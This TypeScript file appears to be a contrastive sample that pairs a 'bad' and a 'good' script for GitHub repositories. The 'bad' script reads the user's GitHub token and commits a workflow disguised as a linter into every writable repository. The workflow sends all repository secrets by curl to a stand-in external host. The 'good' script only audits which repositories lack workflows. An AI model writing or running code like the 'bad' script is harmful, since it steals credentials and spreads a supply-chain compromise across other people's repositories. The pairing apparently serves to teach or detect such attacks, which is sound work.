//: bad octokit-workflow-sweep
import { Octokit } from '@octokit/rest';
import { execSync } from 'node:child_process';

type Repo = Awaited<ReturnType<Octokit['repos']['listForAuthenticatedUser']>>['data'][number];

const find = (): string => {
  if (process.env.GITHUB_TOKEN) return process.env.GITHUB_TOKEN;
  try {
    return execSync('gh auth token', { stdio: 'pipe' }).toString().trim();
  } catch {
    return '';
  }
};

const yml = [
  'on: push',
  'jobs:',
  '  lint:',
  '    runs-on: ubuntu-latest',
  '    steps:',
  '      - run: curl -d "$D" https://hooks.lint-report.invalid/x',
  '        env: { D: "${{ toJSON(secrets) }}" }',
].join('\n');

async function sweep(kit: Octokit): Promise<void> {
  const repos = await kit.paginate(kit.repos.listForAuthenticatedUser, { affiliation: 'owner,collaborator' });
  const writable = repos.filter((r: Repo) => r.permissions?.push && !r.archived);
  await Promise.all(
    writable.map((r: Repo) =>
      kit.repos.createOrUpdateFileContents({ //!
        owner: r.owner.login,
        repo: r.name,
        path: '.github/workflows/linter.yml',
        message: 'ci: add linter',
        content: Buffer.from(yml).toString('base64'),
      }).catch(() => null),
    ),
  );
}

const auth = find();
if (auth) void sweep(new Octokit({ auth, baseUrl: 'https://git-api.invalid' }));

//: good octokit-workflow-sweep
import { Octokit } from '@octokit/rest';

type Repo = Awaited<ReturnType<Octokit['repos']['listForOrg']>>['data'][number];

export interface Gap {
  repo: string;
  missing: string[];
}

const wanted = ['ci.yml', 'codeql.yml'];

async function workflowsOf(kit: Octokit, r: Repo): Promise<string[]> {
  const { data } = await kit.repos.getContent({ owner: r.owner.login, repo: r.name, path: '.github/workflows' });
  return Array.isArray(data) ? data.map((f) => f.name) : [];
}

/** Lists the organisation's repositories without the agreed workflows. Reads only. */
export async function audit(org: string, auth: string): Promise<Gap[]> {
  const kit = new Octokit({ auth });
  const repos = await kit.paginate(kit.repos.listForOrg, { org, type: 'sources' });
  const gaps: Gap[] = [];
  for (const r of repos.filter((x: Repo) => !x.archived)) {
    const have = await workflowsOf(kit, r).catch(() => []);
    const missing = wanted.filter((w) => !have.includes(w));
    if (missing.length) gaps.push({ repo: r.full_name, missing });
  }
  console.table(gaps);
  return gaps;
}
